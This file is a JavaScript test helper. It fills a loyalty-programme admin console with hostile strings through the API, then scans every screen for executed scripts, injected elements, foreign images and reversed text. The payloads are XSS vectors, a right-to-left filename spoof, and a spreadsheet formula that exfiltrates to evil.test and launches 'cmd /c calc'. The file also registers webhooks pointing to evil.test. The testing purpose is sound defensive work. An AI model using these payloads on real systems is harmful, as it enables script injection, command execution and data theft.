// Fills a programme by the API with texts that would like to be more than texts, and looks whether any came to be more on a screen.
// The test that loads this walks every screen of the console.
(() => {
  // ident is a text without the signs that ids do not hold, such as those that turn writing around.
  const ident = (text) => text.replace(/\p{Cf}/gu, '')
  const texts = [
    '<img src=x onerror="window.pwned=1"><script>window.pwned=1<\/script><svg onload="window.pwned=1"></svg><a href="javascript:window.pwned=1">x</a>{{1}}${1}',
    'txt\u202egnp.exe \u2067\u0634\u0627\u064a', // turns what follows around, and is never ended
    '\u{1F600}'.repeat(255),
    '=HYPERLINK("http://evil.test/?"&A1,"x")&cmd|\'/c calc\'!A0',
  ]
  const about = (i, l = 'en') => texts[(i + ['en', 'es', 'fr', 'hu'].indexOf(l)) % 4]
  const all = (i) => ({ en: about(i, 'en'), es: about(i, 'es'), fr: about(i, 'fr'), hu: about(i, 'hu') })
  const send = async (path, body) => {
    const answer = await fetch('/console/api' + path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) })
    const said = await answer.json().catch(() => ({}))
    return { ok: answer.ok, path, said }
  }
  const event = (customer, action, data) => ['/events', { customer, action, data }]

  // fill gives what was refused, and where to look besides the screens that are always there.
  async function fill() {
    const refused = [], places = []
    const put = async ([path, body]) => {
      const { ok, said } = await send(path, body)
      if (!ok) refused.push(`${path} ${JSON.stringify(body).slice(0, 120)}: ${JSON.stringify(said.error).slice(0, 300)}`)
      return said.data ?? said
    }
    await put(['/admin/modules/custom_events', { enabled: true }])
    await put(['/entities/custom-entities/attribute', { id: 'hostile-own', on: 'core/customer', name: 'hostile', type: 'string', tags: ['filterable', 'api', 'searchable'] }])
    await put(['/entities/custom-entities/attribute', { id: 'hostile-reward', on: 'rewards/reward', name: 'hostile', type: 'string', tags: ['api'] }])
    await put(['/entities/custom-entities/attribute', { id: 'hostile-kind', on: 'custom/machine', name: 'hostile', type: 'string', tags: ['filterable', 'api'] }])
    await put(['/entities/custom-events/action', { id: 'hostile-action', name: 'hostile_action', schema: { type: 'object', properties: { note: { type: 'string', description: texts[0] } } } }])
    for (let i = 0; i < 4; i++) {
      const h = 'hostile-' + i, text = texts[i], at = { id: h }
      const kinds = {
        'stores/store': { name: text }, 'products/product': { name: text, category: text }, 'segments/segment': { name: text, condition: 'customer.score >= 0 or customer.id == ' + JSON.stringify(text) },
        'core/customer-list': { name: text }, 'custom/machine': { name: text, cf_hostile: text },
        'rewards/reward': { title: all(i), description: all(i), type: 'custom', points: 1, image: { small: 'https://evil.test/' + encodeURIComponent(text).slice(0, 600) }, cf_hostile: text },
        'coupons/pool': { name: text, source: 'generated', pattern: 'EVIL-####-@@@@', coupon: { type: 'amount', value: 1, currency: text.slice(0, 40), name: all(i), products: [ident(text).slice(0, 200)] } },
        'tiers/structure': { name: text, base: 'manual' }, 'tiers/tier': { structure: h, name: all(i), threshold: 10, benefits: { [text.slice(0, 60)]: text } },
        'offers/offer': { name: all(i), type: 'cart', discount: { type: 'percent_discount', value: 1 } },
        'challenges/challenge': { title: all(i), description: all(i), criteria: [{ action: 'checkout', threshold: 1 }], points: 1, tags: [text] },
        'contests/contest': { title: all(i), description: all(i), points: 1 },
        'prize-wheels/wheel': { name: all(i), options: [{ type: 'points', label: all(i), weight: 1, points: 1 }] },
        'quizzes/quiz': { title: all(i), question: all(i), answers: [{ id: 'a', text: all(i) }, { id: 'b', text: all(i + 1) }], correct_answer: 'a', points: 1 },
        'treasure-hunt/treasure': { title: all(i), description: all(i), kind: 'offline', code: text.slice(0, 200), points: 1 },
        'profiling/flow': { title: all(i), questions: [{ id: 'q', field: 'cf_hostile', text: all(i), answers: [{ id: 'a', text: all(i) }] }] },
        'automation/campaign': { name: text, trigger: 'checkout', condition: 'event.data.total >= 1 and event.data.store != ' + JSON.stringify(text), effects: [{ type: 'points', points: 1 }, { type: 'label', label: text.slice(0, 200) }], status: 'active' },
      }
      for (const [kind, body] of Object.entries(kinds)) {
        await put(['/entities/' + kind, { ...at, ...body }])
        places.push(`/entity/${kind}/${h}`)
      }
      await put(event(h, 'opt_in', { email: h + '@shop.test', first_name: text, last_name: text, handler: text, language: text, currency: text, external_ids: { crm: i === 1 ? h : text } }))
      await put(event(h, 'profile', { labels: [text], image_url: 'https://evil.test/' + encodeURIComponent(text).slice(0, 600), cf_hostile: text }))
      await put(event(h, 'checkout', { transaction_id: i === 1 ? h : h + text.slice(0, 60), total: 10, currency: text.slice(0, 60), store: text, channel: text, country: text, items: [{ product_id: ident(text), product_name: text, product_url: 'https://shop.test/' + encodeURIComponent(text).slice(0, 600), quantity: 1, subtotal: 10, product_category: text }] }))
      await put(event(h, 'point_add', { points: 100, reason: text }))
      await put(event(h, 'visit', { url: 'https://shop.test/' + encodeURIComponent(text).slice(0, 600), type: text }))
      await put(event(h, 'hostile_action', { note: text }))
      await put([`/customers/${h}/activities/rewards/${h}/claim`, {}])
      await put([`/customers/${h}/activities/contests/${h}/enter`, {}])
      await put([`/customers/${h}/activities/quizzes/${h}/earn`, { answer: 'a' }])
      await put(event(h, 'review_submit', { item: text, review: text, provider: text, review_id: h }))
      await put(event(h, 'coupon_create', { code: 'EVIL-' + i, value: 1, type: 'percentage', name: text }))
      await put(event(h, 'suspend', { reason: text }))
      await put(event(h, 'unsuspend', { reason: text }))
      await put(['/admin/users', { login: 'hostile.' + i, name: text, email: `u${i}@shop.test`, role: 'viewer', language: 'en' }])
      await put(['/admin/keys', { label: text }])
      await put(['/admin/imports', { label: text }])
      const hook = await put(['/admin/webhooks', { label: text, url: 'https://evil.test/' + encodeURIComponent(text).slice(0, 600), types: ['event.opt_out'] }])
      if (hook.webhook_id) places.push('/webhooks/' + hook.webhook_id)
      places.push('/campaigns/' + h, '/rewards?tab=pools&pool=' + h, '/rewards?tab=bulk&reward=' + h, '/tester?customer=' + h)
      for (const tab of ['', '?tab=points', '?tab=purchases', '?tab=coupons', '?tab=progress', '?tab=data']) places.push(`/customer/${h}${tab}`)
      places.push('/rewards?tab=coupons&code=EVIL-' + i)
      places.push('/customers?search=' + encodeURIComponent(text.slice(0, 100)), '/programme?search=' + encodeURIComponent(text.slice(0, 100)), '/campaigns/' + encodeURIComponent(text.slice(0, 100)), '/nowhere/' + encodeURIComponent(text.slice(0, 100)))
      for (const wrong of [event(h, text, {}), event(text.slice(0, 100), 'point_add', { points: 1, reason: text }), event(h, 'checkout', { [text.slice(0, 90)]: text })]) await send(...wrong) // for the list of failed requests
      places.push('/customer/' + encodeURIComponent(text.slice(0, 100)), '/entity/rewards/reward/' + encodeURIComponent(text.slice(0, 100))) // what is not there is an error that names it
    }
    await put(['/customers/hostile-3/merge', { target: 'hostile-2' }])
    for (const kind of ['stores/store', 'products/product', 'segments/segment', 'core/customer-list', 'custom/machine', 'coupons/pool', 'tiers/structure', 'tiers/tier', 'offers/offer', 'challenges/challenge', 'contests/contest', 'prize-wheels/wheel', 'quizzes/quiz',
      'treasure-hunt/treasure', 'profiling/flow', 'automation/campaign', 'custom-events/action', 'custom-entities/attribute']) places.push('/programme?type=' + kind)
    for (const by of ['store', 'channel', 'reward', 'campaign', 'tier', 'currency', 'pool', 'code']) places.push('/statistics?by=' + by + '&metric=' + { store: 'purchases', channel: 'purchases', reward: 'claims', campaign: 'campaign_points', tier: 'members_by_tier', currency: 'revenue', pool: 'redemptions', code: 'refused_events' }[by])
    return JSON.stringify({ refused, places })
  }

  // look gives what is wrong with the page as it stands.
  function look() {
    const wrong = []
    if (window.pwned !== undefined) wrong.push('a script ran')
    for (const e of document.querySelectorAll('main script, main iframe, main object, main embed, main svg[onload], main [onerror], main [onclick], main img[src="x"], main a[href^="javascript:" i], dialog script')) wrong.push('an element was made: ' + e.outerHTML.slice(0, 120))
    for (const i of document.querySelectorAll('main img')) if (new URL(i.src).host !== location.host) wrong.push('a picture of another host: ' + i.src.slice(0, 80))
    if (document.documentElement.scrollWidth > innerWidth) {
      const wide = [...document.querySelectorAll('main *')].filter((e) => e.getBoundingClientRect().right > innerWidth + 1 && !e.closest('.scroll, pre, .chart')).map((e) => e.tagName + '.' + e.className + ' ' + e.textContent.slice(0, 30))
      wrong.push(`it is ${document.documentElement.scrollWidth} wide: ${wide.slice(0, 4).join(' | ')}`)
    }
    // What turns writing around ends where its own element ends: no words of ours stand in the same line of writing.
    const walk = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT)
    for (let n = walk.nextNode(); n; n = walk.nextNode()) {
      if (!/[\u202a-\u202e\u2066-\u2069]/.test(n.data) || n.parentElement.closest('textarea, option, title')) continue
      let box = n.parentElement
      while (getComputedStyle(box).display.startsWith('inline') && !/isolate|plaintext/.test(getComputedStyle(box).unicodeBidi) && getComputedStyle(box).display !== 'inline-block') box = box.parentElement
      const after = document.createRange()
      after.setStart(n, n.data.length)
      after.setEndAfter(box.lastChild)
      const own = n.data.replaceAll(/\u2068[^\u2069]*\u2069/g, ''), beside = after.toString().trim()
      const open = /[\u202a-\u202e\u2066-\u2067]/.test(own)
      if (open && beside) wrong.push(`what stands behind is turned around: ${box.tagName}.${box.className} ${JSON.stringify(n.data.slice(-40))} ${beside.slice(0, 40)}`)
    }
    return [...new Set(wrong)].join('\n')
  }

  window.hostile = { fill, look }
})()
